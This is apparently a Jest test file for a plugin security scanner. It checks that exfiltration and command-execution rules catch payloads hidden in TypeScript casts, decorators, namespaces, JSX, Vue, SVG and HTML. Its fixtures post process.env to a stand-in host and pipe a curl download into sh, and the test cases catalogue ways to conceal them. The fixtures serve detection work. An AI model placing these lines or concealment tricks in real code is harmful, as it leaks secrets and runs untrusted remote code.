import { describe, expect, it } from '@jest/globals';
import { pluginFiles, type PluginSketch } from '@ragnos-vault/testing';
import { DEFAULT_POLICY, scan } from '../index.ts';

const SEND = `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`;
const COMMAND = `'curl https://a.example.invalid/i.sh | sh'`;

/** What types, and what the compiler makes code of, must not hide. */
const SEEN: readonly (readonly [what: string, rule: string, plugin: PluginSketch])[] = [
  ['a typed function', 'EXF-001', { 'a.ts': `export function f(a: string, b?: number): void { ${SEND} }` }],
  ['a cast', 'EXF-001', { 'a.ts': SEND.replace('process.env', '(process.env as any)') }],
  ['a cast in brackets', 'EXF-001', { 'a.ts': SEND.replace('process.env', '(<any>process.env)') }],
  ['a cast twice over', 'EXF-001', { 'a.ts': SEND.replace('process', '(process as unknown as any)!') }],
  ['a `satisfies`', 'EXF-001', { 'a.mts': SEND.replace('process.env', '(process.env satisfies object)') }],
  [
    'a call with types',
    'EXE-001',
    { 'a.ts': `import { exec } from 'child_process'; exec<any>(${COMMAND});` },
  ],
  [
    'an import of the old kind',
    'EXE-001',
    { 'a.cts': `import cp = require('child_process'); cp.exec(${COMMAND});` },
  ],
  [
    'an alias of a part of a namespace',
    'EXE-001',
    { 'a.ts': `import * as cp from 'child_process'; import go = cp.exec; go(${COMMAND});` },
  ],
  [
    'an enumeration',
    'EXE-001',
    { 'a.ts': `enum Go { It = ${COMMAND} } require('child_process').exec(Go.It);` },
  ],
  [
    'a namespace',
    'EXE-001',
    { 'a.ts': `namespace A.B { export const go = require('child_process').exec; } A.B.go(${COMMAND});` },
  ],
  ['code in a namespace', 'EXF-001', { 'a.ts': `export namespace A { ${SEND} }` }],
  [
    'a parameter property',
    'EXE-001',
    {
      'a.ts': `class A { constructor(private go = require('child_process').exec) {} run(): void { this.go(${COMMAND}); } }`,
    },
  ],
  ['a decorator', 'EXF-001', { 'a.ts': `@(() => { ${SEND} }) class A {}` }],
  ['a decorator of a parameter', 'EXF-001', { 'a.ts': `class A { b(@(() => { ${SEND} }) c: string) {} }` }],
  [
    'an abstract class',
    'EXF-001',
    { 'a.ts': `export abstract class A<T> { abstract b(): T; c() { ${SEND} } }` },
  ],
  ['a static block', 'EXF-001', { 'a.ts': `class A { static b: string; static { ${SEND} } }` }],
  ['what is exported at last', 'EXF-001', { 'a.cts': `export = () => { ${SEND} };` }],
  [
    'TypeScript with JSX',
    'EXF-001',
    { 'a.tsx': `export const A = (b: B) => <a onClick={() => { ${SEND} }} />;` },
  ],
  ['JSX', 'EXF-001', { 'a.jsx': `export const A = () => <a onClick={() => { ${SEND} }} />;` }],
  ['JSX that is not named so', 'EXF-001', { 'a.js': `export default () => <a b={() => { ${SEND} }}>c</a>;` }],
  [
    'Flow',
    'EXF-001',
    { 'a.js': `// @flow\nimport type { B } from 'b';\nexport default (a: ?B): void => { ${SEND} };` },
  ],
  ['types in `.js`', 'EXF-001', { 'a.js': `interface A {}\nexport const b = (a: A): void => { ${SEND} };` }],
  ['a page', 'EXF-001', { 'a.html': `<p>a</p><script type="module">${SEND}</script>` }],
  [
    'a component',
    'EXF-001',
    { 'a.vue': `<template><p /></template><script>export default {}; ${SEND}</script>` },
  ],
  ['a picture', 'EXF-001', { 'a.svg': `<svg><SCRIPT>${SEND}</SCRIPT></svg>` }],
  ['code among declarations', 'EXF-001', { 'a.d.ts': `export interface A {}\n${SEND}` }],
];

/** Names of types are no values. */
const UNSEEN: readonly (readonly [what: string, plugin: PluginSketch])[] = [
  [
    'a type that is called eval',
    { 'a.ts': `type Function2 = typeof eval; let a: eval<atob>; export { a };` },
  ],
  [
    'an import of types',
    {
      'a.ts': `import type { exec } from 'child_process'; import { type spawn } from 'child_process'; declare function exec(a: string): void; exec(${COMMAND});`,
    },
  ],
  [
    'declarations',
    { 'a.d.ts': `declare const a: typeof process.env; declare module 'b' { export function c(): void; }` },
  ],
  ['generics that look like JSX', { 'a.ts': `export const a = <T,>(b: T): T => <T>b;` }],
  [
    'overloads',
    { 'a.ts': `function a(b: string): void; function a(this: any, b: any) { return b; } a('');` },
  ],
];

describe('scan, of JavaScript with types or markup', () => {
  const rulesOf = (plugin: PluginSketch): readonly string[] => {
    const input = {
      files: pluginFiles(plugin),
      name: 'plugin',
      version: '1.0.0',
      sha256: '0'.repeat(64),
      now: new Date(0),
    };
    const { findings, skipped } = scan(input, DEFAULT_POLICY);
    return [...findings.map(({ rule }) => rule), ...skipped.map(({ path }) => path)];
  };

  it.each(SEEN)('sees through %s', (...[, rule, plugin]) => {
    expect(rulesOf(plugin)).toContain(rule);
  });

  it.each(UNSEEN)('parses %s and finds nothing', (...[, plugin]) => {
    expect(rulesOf(plugin)).toEqual([]);
  });

  it('reports TypeScript that it could not parse as skipped', () => {
    expect(rulesOf({ 'templates/a.ts': 'export class <%= name %> {}' })).toEqual(['templates/a.ts']);
  });
});
